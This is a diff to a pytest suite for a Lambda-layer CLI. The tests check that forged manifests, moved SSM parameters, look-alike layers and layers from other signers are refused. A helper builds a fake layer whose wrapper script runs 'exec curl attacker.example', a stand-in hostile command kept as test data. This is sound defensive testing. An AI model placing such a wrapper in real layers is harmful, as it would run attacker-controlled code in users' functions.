@@ -3,9 +3,11 @@ sharing, SSM parameters, the manifest, idempotency, a denied region resumed, and
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -13,8 +15,9 @@ import boto3
 import pytest
 
 from lambdawarmer_cli.layer_sharing import granted
+from layer.release_digests import record
 
-from .control_plane import REGION, make_function, run
+from .control_plane import REGION, make_function, run, snapshot
 
 REGIONS = ("us-east-1", "eu-west-1", "ap-southeast-2")
 ORGANIZATION = "o-a1b2c3d4e5"
@@ -278,8 +281,50 @@ def test_a_zip_that_is_not_ours_is_refused(aws: dict[str, Any], tmp_path: Path) 
     assert (status, "without its lambdawarmer-layer.json" in output) == (2, True), output
 
 
+OURS_SIGNER = "arn:aws:signer:us-east-1:123456789012:/signing-profiles/lambdawarmer/a1b2c3d4e5"
+OTHER_SIGNER = "arn:aws:signer:us-east-1:210987654321:/signing-profiles/lambdawarmer/f6e7d8c9b0"
+
+
+@pytest.fixture
+def releases(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], None]:
+    """The releases the command knows: the list it ships, replaced by one naming the zips given."""
+    listed = tmp_path / "release_digests.json"
+    listed.write_text("{}")
+    monkeypatch.setattr("lambdawarmer_cli.release_digests.DIGESTS", listed)
+
+    def release(*zips: Path) -> None:
+        for number, layer in enumerate(zips, start=1):
+            record(f"1.{number}.0", hashlib.sha256(layer.read_bytes()).hexdigest(), listed)
+
+    return release
+
+
+def look_alike(tmp_path: Path, name: str = "lambdawarmer") -> tuple[str, str]:
+    """A layer version anyone allowed to publish one could make: its ARN and its CodeSha256."""
+    path = tmp_path / f"{name}.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("lambdawarmer-wrapper", "#!/bin/sh\nexec curl attacker.example\n")
+    published = lambda_in(REGION).publish_layer_version(
+        LayerName=name, Content={"ZipFile": path.read_bytes()}
+    )
+    return published["LayerVersionArn"], published["Content"]["CodeSha256"]
+
+
+def account(aws: dict[str, Any]) -> dict[str, Any]:
+    """The function and what enable would make, and the SSM parameter naming the layer."""
+    ssm = boto3.client("ssm", region_name=REGION)
+    return {**snapshot(aws), "parameter": ssm.get_parameter(Name=PARAMETER)["Parameter"]["Value"]}
+
+
+PARAMETER = "/platform/lambdawarmer/latest"
+
+
 def test_enable_attaches_a_layer_named_by_manifest_parameter_or_arn_only_when_its_content_is_known(
-    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, lambda_router: Any
+    aws: dict[str, Any],
+    layer_zip: Path,
+    tmp_path: Path,
+    lambda_router: Any,
+    releases: Callable[..., None],
 ) -> None:
     make_function(aws)
     manifest = tmp_path / "manifest.json"
@@ -287,30 +332,87 @@ def test_enable_attaches_a_layer_named_by_manifest_parameter_or_arn_only_when_it
     assert status == 0, output
     ours = json.loads(manifest.read_text())["regions"][REGION]
     sha256 = hashlib.sha256(layer_zip.read_bytes()).hexdigest()
-    # A look-alike: anyone allowed to publish layer versions can call one lambdawarmer.
-    other = zipfile.ZipFile(tmp_path / "other.zip", "w")
-    other.writestr("lambdawarmer-wrapper", "#!/bin/sh\nexec curl attacker.example\n")
-    other.close()
-    foreign = lambda_in(REGION).publish_layer_version(
-        LayerName="lambdawarmer", Content={"ZipFile": (tmp_path / "other.zip").read_bytes()}
-    )["LayerVersionArn"]
+    foreign, foreign_code = look_alike(tmp_path)
     enable = ("enable", "orders", "--concurrency", "2", "--dry-run")
-    for way in (
-        ("--manifest", str(manifest)),
-        ("--layer-parameter", "/platform/lambdawarmer/latest", "--layer-sha256", sha256),
-        ("--layer-arn", ours, "--layer-sha256", sha256),
-        ("--layer-arn", foreign, "--trust-layer"),  # told to: it is not checked
+    # No release is listed: neither the manifest's own digest nor what SSM holds proves anything.
+    for way in (("--manifest", str(manifest)), ("--layer-parameter", PARAMETER), ("--layer-arn", ours)):
+        status, output = run(*enable, *way)
+        assert (status, "no lambdawarmer release this command knows (releases listed: none)" in output) == (
+            2,
+            True,
+        ), (way, output)
+    releases(layer_zip)
+    foreign_sha256 = base64.b64decode(foreign_code).hex()
+    for way, attached in (
+        (("--manifest", str(manifest)), ours),
+        (("--layer-parameter", PARAMETER), ours),
+        (("--layer-arn", ours), ours),
+        (("--layer-parameter", PARAMETER, "--layer-sha256", sha256), ours),
+        (("--layer-arn", foreign, "--layer-sha256", foreign_sha256), foreign),  # the user named it
+        (("--layer-arn", foreign, "--trust-layer"), foreign),  # told to: it is not checked
     ):
         status, output = run(*enable, *way)
         assert status == 0, (way, output)
-        assert f"+ {ours if way[1] != foreign else foreign}" in output, (way, output)
+        assert f"+ {attached}" in output, (way, output)
     for way, says in (
-        (("--layer-arn", foreign, "--layer-sha256", sha256), "does not hold the content named"),
-        (("--layer-parameter", "/platform/lambdawarmer/latest"), "nothing to check its content against"),
-        (("--layer-arn", ours), "--trust-layer"),
+        (("--layer-arn", foreign), "no lambdawarmer release this command knows (releases listed: 1.1.0)"),
+        (
+            ("--layer-arn", foreign, "--layer-sha256", sha256),
+            "does not hold the content named by --layer-sha256",
+        ),
         (("--layer-parameter", "/no/such"), "cannot be read: ParameterNotFound"),
         (("--layer-arn", ours, "--layer-sha256", "abc"), "64 hexadecimal digits"),
+        (("--layer-arn", ours, "--signing-profile-version-arn", "lambdawarmer"), "expected arn:aws:signer:"),
         (("--manifest", str(tmp_path / "none.json")), "No such file"),
+        (("--publish", str(layer_zip), "--layer-sha256", sha256), "--layer-sha256 checks a layer named by"),
+        (("--trust-layer",), "--trust-layer checks a layer named by"),
     ):
         status, output = run(*enable, *way)
         assert (status, says in output) == (2, True), (way, output)
+
+
+def test_a_forged_manifest_a_moved_parameter_and_another_signer_are_refused_with_nothing_changed(
+    aws: dict[str, Any],
+    layer_zip: Path,
+    tmp_path: Path,
+    lambda_router: Any,
+    releases: Callable[..., None],
+) -> None:
+    """Each as an attacker who may publish layer versions, write a manifest or an SSM parameter would
+    try it: enable (not a dry run) refuses before any change."""
+    make_function(aws)
+    manifest = tmp_path / "manifest.json"
+    status, output = publish(layer_zip, manifest, "--ssm-prefix", "/platform/lambdawarmer")
+    assert status == 0, output
+    ours = json.loads(manifest.read_text())["regions"][REGION]
+    releases(layer_zip)
+    forged, forged_code = look_alike(tmp_path, "totally-not-lambdawarmer")
+    forged_manifest = tmp_path / "forged.json"
+    forged_manifest.write_text(json.dumps({"regions": {REGION: forged}, "code_sha256": forged_code}))
+    lambda_router.signed_layers[ours] = {"SigningProfileVersionArn": OURS_SIGNER, "SigningJobArn": "job-1"}
+    lambda_router.signed_layers[forged] = {"SigningProfileVersionArn": OTHER_SIGNER, "SigningJobArn": "job-2"}
+    before = account(aws)
+    for way, says in (
+        (("--manifest", str(forged_manifest)), "although its manifest names it"),
+        (
+            ("--layer-arn", forged, "--signing-profile-version-arn", OURS_SIGNER),
+            f"(signed by {OTHER_SIGNER})",
+        ),
+        (("--layer-arn", ours, "--signing-profile-version-arn", OTHER_SIGNER), f"(signed by {OURS_SIGNER})"),
+    ):
+        status, output = run("enable", "orders", "--concurrency", "2", *way)
+        assert (status, says in output) == (2, True), (way, output)
+        assert account(aws) == before, way
+    boto3.client("ssm", region_name=REGION).put_parameter(
+        Name=PARAMETER, Value=forged, Type="String", Overwrite=True
+    )
+    before = account(aws)
+    status, output = run("enable", "orders", "--concurrency", "2", "--layer-parameter", PARAMETER)
+    assert (status, "no lambdawarmer release this command knows" in output) == (2, True), output
+    assert account(aws) == before
+    # The genuine version, named by its signer alone, is attached.
+    status, output = run(
+        "enable", "orders", "--concurrency", "2", "--dry-run",
+        "--layer-arn", ours, "--signing-profile-version-arn", OURS_SIGNER,
+    )  # fmt: skip
+    assert (status, f"+ {ours}" in output) == (0, True), output
